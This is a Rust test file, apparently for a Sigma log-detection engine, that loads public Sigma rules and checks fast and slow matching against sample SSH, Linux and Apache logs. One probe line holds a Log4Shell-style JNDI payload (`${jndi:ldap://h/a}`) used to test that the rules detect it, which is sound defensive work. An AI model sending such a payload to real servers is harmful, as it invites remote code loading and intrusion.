@@ -1,0 +1,98 @@
+//! Public Sigma rules load or are refused by name, and run over real text without harm (DT-RUL-01, DT-RUL-02).
+
+use crate::RuleSet;
+use crate::cases::{combined, yaml_files};
+use smallvec::SmallVec;
+use std::borrow::Cow;
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+use vocab::Event;
+
+/// Folder of the corpora; `None`, said aloud, where it is missing.
+fn corpora() -> Option<PathBuf> {
+    let folder = std::env::var_os("SEKISHO_CORPORA")
+        .map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora"), PathBuf::from);
+    let found = [folder.clone(), Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../../shared/corpora")]
+        .into_iter()
+        .find(|folder| folder.join("sigma").is_dir());
+    if found.is_none() {
+        println!("skipped: no corpora at {} (set SEKISHO_CORPORA)", folder.display());
+    }
+    found
+}
+
+fn public(folder: &Path) -> Vec<(String, String)> {
+    ["linux", "web", "network"]
+        .iter()
+        .flat_map(|family| yaml_files(&folder.join("sigma").join(family)))
+        .map(|path| (path.display().to_string(), std::fs::read_to_string(&path).unwrap()))
+        .collect()
+}
+
+#[test]
+fn public_rules_load_or_are_refused_by_name() {
+    let Some(folder) = corpora() else { return };
+    let files = public(&folder);
+    let (set, report) = RuleSet::load(&[], &files);
+    for refused in &report.refused {
+        println!("{}:{} {}: {}", refused.file, refused.line, refused.id, refused.reason);
+        assert!(!refused.reason.is_empty() && refused.line >= 1);
+    }
+    println!(
+        "{} files, {} rules loaded, {} refused, {} disabled",
+        files.len(),
+        report.loaded,
+        report.refused.len(),
+        report.disabled
+    );
+    let named: BTreeSet<&str> = set
+        .iter()
+        .map(|(_, rule)| rule.file.as_str())
+        .chain(report.refused.iter().map(|refused| refused.file.as_str()))
+        .collect();
+    let lost: Vec<_> =
+        files.iter().map(|(file, _)| file.as_str()).filter(|file| !named.contains(file)).collect();
+    assert!(lost.len() <= report.disabled, "dropped in silence: {lost:?}");
+    assert!(report.loaded * 100 >= files.len() * 97, "{} of {} loaded", report.loaded, files.len());
+    let by_author = set.iter().filter(|(_, rule)| rule.meta.reference.author.is_some()).count();
+    assert!(by_author * 10 >= report.loaded * 9, "authors travel with the rules (DT-RUL-04)");
+}
+
+#[test]
+fn public_rules_run_over_real_text() {
+    let Some(folder) = corpora() else { return };
+    let mut files = public(&folder);
+    files.extend(crate::BUILTIN.iter().map(|(file, text)| ((*file).to_owned(), (*text).to_owned())));
+    let (set, _) = RuleSet::load(&[], &files);
+    let mut engine = set.stateless().clone();
+    let (mut seen, mut matched) = (0, 0);
+    for (name, services) in [
+        ("OpenSSH_2k.log", &["sshd", "auth", "syslog"][..]),
+        ("Linux_2k.log", &["syslog", "auth"]),
+        ("Apache_2k.log", &["error"]),
+    ] {
+        let text = std::fs::read(folder.join("text").join(name)).unwrap();
+        for line in String::from_utf8_lossy(&text).lines().step_by(7) {
+            let services: &'static [&'static str] = services;
+            let event = Event {
+                product: if name.starts_with("Apache") { "apache" } else { "linux" },
+                sigma_services: services,
+                message: Some(Cow::Owned(line.to_owned())),
+                ..Event::default()
+            };
+            let (mut quick, mut slow) = (SmallVec::new(), SmallVec::new());
+            engine.matches(&event, &mut quick);
+            engine.matches_slowly(&event, &mut slow);
+            assert_eq!(quick, slow, "{line}");
+            seen += 1;
+            matched += quick.len();
+        }
+    }
+    let probe = "192.0.2.1 - - [10/Nov/2026:13:00:00 +0900] \"GET /a?x=${jndi:ldap://h/a} HTTP/1.1\" 200 1 \"-\" \"Nikto\"";
+    let (mut quick, mut slow) = (SmallVec::new(), SmallVec::new());
+    engine.matches(&combined(probe), &mut quick);
+    engine.matches_slowly(&combined(probe), &mut slow);
+    assert_eq!(quick, slow);
+    assert!(quick.len() >= 2, "own and public rules see it");
+    println!("{seen} lines, {matched} matches");
+}
